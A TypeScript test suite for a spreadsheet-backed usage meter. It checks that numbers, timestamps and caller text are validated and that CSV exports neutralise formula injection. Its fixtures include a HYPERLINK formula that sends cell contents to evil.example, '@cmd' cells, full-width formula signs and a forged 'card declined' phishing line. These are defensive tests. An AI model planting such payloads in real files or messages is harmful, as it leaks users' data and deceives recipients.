// Values a caller (or an operator's Config cell) can send that the record's rules must stop or
// make harmless, through the built bundle: numbers the archive could not store, number text in
// other bases, formulas behind leading whitespace, line breaks in text, and a stray `calls` field.
import { describe, expect, it } from 'vitest';
import { EVENT_FIELDS } from '../../schema/event-record';
import { restoreText } from '../../schema/csv-cell';
import { parseCsv } from './csv';
import { callJson, type FakeTextOutput } from './fakes/platform';
import { SECRET, aCall, dataRows, eventsTab, freshMeter, post, setConfig } from './maintenance-setup';

type Meter = ReturnType<typeof freshMeter>['meter'];
const spend = (meter: Meter) => callJson(meter, 'doGet', { action: 'spend', token: SECRET });
/** A cell a spreadsheet would run: a formula trigger after any leading whitespace (NBSP, line breaks included). */
const LIVE_FORMULA = /^\s*[=+\-@]/;
const col = (name: (typeof EVENT_FIELDS)[number]) => EVENT_FIELDS.indexOf(name);

describe('numbers the archive can store', () => {
  it('refuses a count above 2^53-1 or a cost of $1e9 or more, naming the event and field; nothing is written', () => {
    const { platform, meter } = freshMeter();
    const tokens = post(meter, {
      events: [
        { event_id: 'ok1', cost_usd: 0.5 },
        { event_id: 'big1', input_tokens: 1e21 },
      ],
    });
    expect(tokens).toEqual({
      ok: false,
      code: 'invalid_event',
      error: 'events[1].input_tokens: expected a whole number from 0 to 9007199254740991',
    });
    const cost = post(meter, {
      events: [
        { event_id: 'ok1', cost_usd: 0.5 },
        { event_id: 'big2', cost_usd: 2e9 },
      ],
    });
    expect(cost).toEqual({ ok: false, code: 'invalid_event', error: 'events[1].cost_usd: expected a number >= 0 and below 1000000000' });
    expect(post(meter, { latency_ms: '9007199254740992' }).error).toBe('latency_ms: expected a whole number from 0 to 9007199254740991');
    expect(dataRows(eventsTab(platform))).toHaveLength(0);
  });

  it('spend stays a finite number: two $1e308 events are refused instead of summing to Infinity (JSON null)', () => {
    const { meter } = freshMeter();
    expect(
      post(meter, {
        events: [
          { event_id: 'a', cost_usd: 1e308 },
          { event_id: 'b', cost_usd: 1e308 },
        ],
      }).ok,
    ).toBe(false);
    expect(
      post(meter, {
        events: [
          { event_id: 'c', cost_usd: 999_999_999.99 },
          { event_id: 'd', output_tokens: 2 ** 53 - 1 },
        ],
      }),
    ).toEqual({
      ok: true,
      appended: 2,
      duplicates: 0,
    });
    expect(spend(meter).today_cost_usd).toBe(999_999_999.99);
  });
});

describe('number text is decimal', () => {
  it('refuses hex, octal and binary text in number fields', () => {
    const { platform, meter } = freshMeter();
    expect(post(meter, { event_id: 'h', cost_usd: '0x10' }).error).toBe('cost_usd: expected a number >= 0');
    expect(post(meter, { event_id: 'h', input_tokens: '0b11' }).error).toBe('input_tokens: expected a whole number >= 0');
    expect(post(meter, { event_id: 'h', latency_ms: '0o7' }).error).toBe('latency_ms: expected a whole number >= 0');
    expect(post(meter, { event_id: 'h', confidence: '0x1' }).error).toBe('confidence: expected a number from 0 to 1');
    expect(dataRows(eventsTab(platform))).toHaveLength(0);
  });

  it('accepts decimal text with a fraction or an exponent (JSON numbers sent as strings)', () => {
    const { platform, meter } = freshMeter();
    expect(post(meter, { event_id: 'd', cost_usd: '1e-7', input_tokens: ' 42 ', output_tokens: '1E3', eval_score: '.5' }).ok).toBe(true);
    const [row] = dataRows(eventsTab(platform));
    expect([row[col('input_tokens')], row[col('output_tokens')], row[col('cost_usd')], row[col('eval_score')]]).toEqual([
      42, 1000, 1e-7, 0.5,
    ]);
  });

  it('a Config cap cell holding only spaces takes the default; hex text in a cap is an error naming the key', () => {
    const { platform, meter } = freshMeter();
    setConfig(platform, 'DAILY_CAP_USD', ' ');
    expect(spend(meter)).toMatchObject({ ok: true, daily_cap_usd: 50 });
    setConfig(platform, 'BURN_7D_CAP_USD', '0x32');
    expect(spend(meter)).toEqual({ ok: false, code: 'config_error', error: 'Config BURN_7D_CAP_USD must be a number >= 0, found "0x32"' });
  });

  it('RETENTION_DAYS must be a whole number from 7 to 36500: 7.5 or 1e9 stops retention with the key named and deletes nothing', () => {
    const { platform, meter } = freshMeter('2026-11-22T02:00:00Z');
    post(meter, { events: [{ event_id: 'x', timestamp: '2026-11-20T13:00:00Z' }] });
    meter.exportArchive();
    setConfig(platform, 'RETENTION_DAYS', 7.5);
    expect(() => meter.applyRetention()).toThrow('Config RETENTION_DAYS must be a whole number from 7 to 36500, found "7.5"');
    setConfig(platform, 'RETENTION_DAYS', 1e9); // a whole number, but no date that far back exists
    expect(() => meter.applyRetention()).toThrow('Config RETENTION_DAYS must be a whole number from 7 to 36500, found "1000000000"');
    expect(dataRows(eventsTab(platform))).toHaveLength(1);
  });
});

describe('formulas behind leading whitespace in CSV exports', () => {
  const SENT = {
    customer_id: ' =HYPERLINK("https://evil.example/?d="&A1,"invoice")',
    model: '\u00a0=2+2',
    job_id: '\u3000+1',
    reviewer_id: ' \u00a0@cmd',
    region: '  plain',
  };

  function meterWithRows() {
    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
    expect(post(meter, { event_id: 'f1', timestamp: '2026-11-21T10:00:00Z', ...SENT }).ok).toBe(true);
    return { platform, meter };
  }
  function expectMarked(csv: string) {
    const [header, row] = parseCsv(csv);
    for (const cell of row) expect(cell).not.toMatch(LIVE_FORMULA);
    for (const [field, text] of Object.entries(SENT)) expect(restoreText(row[header.indexOf(field)])).toBe(text);
    expect(row[header.indexOf('region')]).toBe('  plain');
  }

  it('the nightly CSV on Drive marks them and gives back the exact text', () => {
    const { platform, meter } = meterWithRows();
    platform.clock.set('2026-11-22T01:00:00Z');
    meter.exportArchive();
    expectMarked(platform.drive.folders[0].files[0].content);
  });

  it('doGet?action=export marks them and gives back the exact text', () => {
    const { meter } = meterWithRows();
    const out = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
    expectMarked(out.getContent());
  });

  it('a line break before a formula (a call record, or a row stored before ingest cleaned text) is marked too', () => {
    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
    const call = aCall({ model: '\n=1+1' });
    expect(post(meter, { calls: [call] })).toMatchObject({ ok: true, appended: 1 });
    const calls = meter.doGet({ parameter: { token: SECRET, action: 'export', what: 'calls', since: '2026-11-21' } }) as FakeTextOutput;
    const [header, row] = parseCsv(calls.getContent());
    expect(row[header.indexOf('model')]).toBe("'\n=1+1");

    expect(post(meter, { event_id: 'old', timestamp: '2026-11-21T10:00:00Z' }).ok).toBe(true);
    dataRows(eventsTab(platform))[0][col('customer_id')] = '\n=1+1';
    const events = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
    const [eh, er] = parseCsv(events.getContent());
    expect(er[eh.indexOf('customer_id')]).toBe("'\n=1+1");
  });
});

describe('full-width formula signs in CSV exports', () => {
  // Excel with a Japanese input method takes ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20) for = + - @.
  const SENT = {
    customer_id: '＝HYPERLINK("https://evil.example/?d="&A1,"invoice")',
    model: '＋1+1',
    job_id: '－2+3',
    reviewer_id: '＠cmd',
    region: '\u3000＝1+1',
  };
  const LIVE = /^\s*[=+\-@＝＋－＠]/;

  function expectMarked(csv: string) {
    const [header, row] = parseCsv(csv);
    for (const cell of row) expect(cell).not.toMatch(LIVE);
    for (const [field, text] of Object.entries(SENT)) expect(restoreText(row[header.indexOf(field)])).toBe(text);
  }

  it('the nightly CSV and doGet?action=export mark them and give back the exact text', () => {
    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
    expect(post(meter, { event_id: 'w1', timestamp: '2026-11-21T10:00:00Z', ...SENT }).ok).toBe(true);
    const out = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
    expectMarked(out.getContent());
    platform.clock.set('2026-11-22T01:00:00Z');
    meter.exportArchive();
    expectMarked(platform.drive.folders[0].files[0].content);
  });
});

describe('the UNPRICED mark', () => {
  it("counts towards error_code's 1,000 characters: a code too long for the mark is refused by name, nothing stored", () => {
    const { platform, meter } = freshMeter();
    expect(post(meter, { event_id: 'u1', cost_usd: null, error_code: 'E'.repeat(1000) })).toEqual({
      ok: false,
      code: 'invalid_event',
      error: 'error_code: expected text of at most 1000 characters with |UNPRICED added (cost_usd null)',
    });
    expect(dataRows(eventsTab(platform))).toHaveLength(0);
    expect(post(meter, { event_id: 'u2', cost_usd: null, error_code: 'E'.repeat(991) })).toMatchObject({ ok: true, appended: 1 });
    expect(String(dataRows(eventsTab(platform))[0][col('error_code')])).toHaveLength(1000);
  });
});

describe('a leap second', () => {
  it('is an RFC 3339 time: the event is stored at the instant after :59, and the batch with it', () => {
    const { platform, meter } = freshMeter('2027-01-01T00:01:00Z');
    const events = [{ event_id: 'ok' }, { event_id: 'ls', timestamp: '2026-12-31T23:59:60Z' }];
    expect(post(meter, { events })).toEqual({ ok: true, appended: 2, duplicates: 0 });
    const stored = dataRows(eventsTab(platform)).find((r) => r[0] === 'ls')!;
    expect(new Date(stored[col('timestamp')] as Date).toISOString()).toBe('2027-01-01T00:00:00.000Z');
  });
});

describe('a time before year 0000 in UTC', () => {
  it('is refused by name, with the batch: 0000-01-01T00:00:00+01:00 is 31 December of year -1, which no CSV or archive file can hold', () => {
    const { platform, meter } = freshMeter('2026-11-22T12:00:00Z');
    const events = [{ event_id: 'ok' }, { event_id: 'bc', timestamp: '0000-01-01T00:00:00+01:00' }];
    expect(post(meter, { events })).toEqual({
      ok: false,
      code: 'invalid_event',
      error: 'events[1].timestamp: expected an RFC 3339 date-time such as 2026-01-31T12:00:00Z (in UTC, years 0000 to 9999)',
    });
    expect(post(meter, { calls: [aCall({ started_at: '0000-01-01T00:30:00+00:45' })] })).toEqual({
      ok: false,
      code: 'invalid_call',
      error: 'calls[0].started_at: expected an RFC 3339 date-time',
    });
    expect(dataRows(eventsTab(platform))).toHaveLength(0);
    expect(platform.spreadsheet.tab('calls')!.data).toHaveLength(1); // the header only
    // Year 0000 itself, in UTC, is what the archive takes.
    expect(post(meter, { events: [{ event_id: 'y0', timestamp: '0000-01-01T00:00:00Z' }] })).toMatchObject({ ok: true, appended: 1 });
  });
});

describe('call records the digest and caps can sum', () => {
  it('refuses a cost of $1e9 or more, a count past 2^53-1, a start that is not RFC 3339 or is ahead of the clock; nothing is written', () => {
    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
    const refused = [
      [{ est_audio_cost_usd: 1.7e308 }, 'calls[0].est_audio_cost_usd: expected a number >= 0 and below 1000000000'],
      [{ turns: 1e308 }, 'calls[0].turns: expected a number from 0 to 9007199254740991'],
      [{ started_at: '1' }, 'calls[0].started_at: expected an RFC 3339 date-time'],
      [{ started_at: 'Nov 22 2026' }, 'calls[0].started_at: expected an RFC 3339 date-time'],
      [{ started_at: '2099-01-01T00:00:00Z' }, "calls[0].started_at: expected a time at most 5 minutes after the meter's clock"],
    ] as const;
    for (const [over, error] of refused) expect(post(meter, { calls: [aCall(over)] })).toEqual({ ok: false, code: 'invalid_call', error });
    expect(platform.spreadsheet.tab('calls')!.data).toHaveLength(1); // the header only
    expect(post(meter, { calls: [aCall({ started_at: '2026-11-21T15:04:00+00:00' })] })).toMatchObject({ ok: true, appended: 1 });
  });

  it('refuses a model longer than an event text (Sheets would fail the write: a reply worth retrying, for ever)', () => {
    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
    const reply = post(meter, { calls: [aCall({ call_id: 'long', model: 'm'.repeat(50_001) })] });
    expect(reply).toEqual({ ok: false, code: 'invalid_call', error: 'calls[0].model: expected text of at most 1000 characters' });
    expect(platform.spreadsheet.tab('calls')!.data).toHaveLength(1); // the header only
    expect(post(meter, { calls: [aCall({ model: 'm'.repeat(1000) })] })).toMatchObject({ ok: true, appended: 1 });
  });
});

describe('control characters in caller text', () => {
  const FORGED =
    'acme: $0.00 (1 calls)\n\nACTION NEEDED: the card on file was declined, update it at https://evil.example/billing\r\n\u0085\u2028  x';

  it('are stored as spaces (the event is kept), so a customer id cannot forge lines in the weekly e-mail', () => {
    const { platform, meter } = freshMeter('2026-11-23T08:00:00Z');
    setConfig(platform, 'TEAM_EMAILS', 'ops@example.com');
    expect(
      post(meter, { event_id: 'm1', timestamp: '2026-11-23T07:00:00Z', cost_usd: 99, customer_id: FORGED, model: 'a\tb\u0000c\u007f' }),
    ).toMatchObject({
      ok: true,
      appended: 1,
    });
    const [row] = dataRows(eventsTab(platform));
    expect(row[col('customer_id')]).toBe(FORGED.replace(/[\n\r\u0085\u2028]/g, ' '));
    expect(row[col('model')]).toBe('a b c ');
    meter.sendWeeklyDigest();
    const body = platform.mail.sent[0].body as string;
    expect(body).toContain('ACTION NEEDED');
    for (const line of body.split('\n')) expect(line).not.toMatch(/^\s*ACTION NEEDED/);
  });
});

describe('a single event that also has a `calls` field', () => {
  it('is ingested as an event (extra fields are dropped), not refused as a call-record body', () => {
    const { platform, meter } = freshMeter();
    expect(post(meter, { event_id: 'c1', cost_usd: 0.5, calls: 3 })).toEqual({ ok: true, appended: 1, duplicates: 0 });
    // Beside `events`, call records belong to no event: the whole body is refused, naming them, nothing stored.
    expect(post(meter, { events: [{ event_id: 'c2' }], calls: [] })).toMatchObject({
      ok: false,
      code: 'invalid_body',
      error: expect.stringContaining('calls'),
    });
    expect(dataRows(eventsTab(platform)).map((r) => r[0])).toEqual(['c1']);
    expect(platform.spreadsheet.tab('calls')!.data).toHaveLength(1);
  });

  it('a body with only `calls` still goes to the call records, and a `calls` that is not an array is refused', () => {
    const { platform, meter } = freshMeter();
    expect(post(meter, { calls: [] })).toEqual({ ok: true, appended: 0, duplicates: 0 });
    expect(post(meter, { calls: 3 })).toEqual({ ok: false, code: 'invalid_body', error: 'calls: expected an array of call records' });
    expect(dataRows(eventsTab(platform))).toHaveLength(0);
  });
});
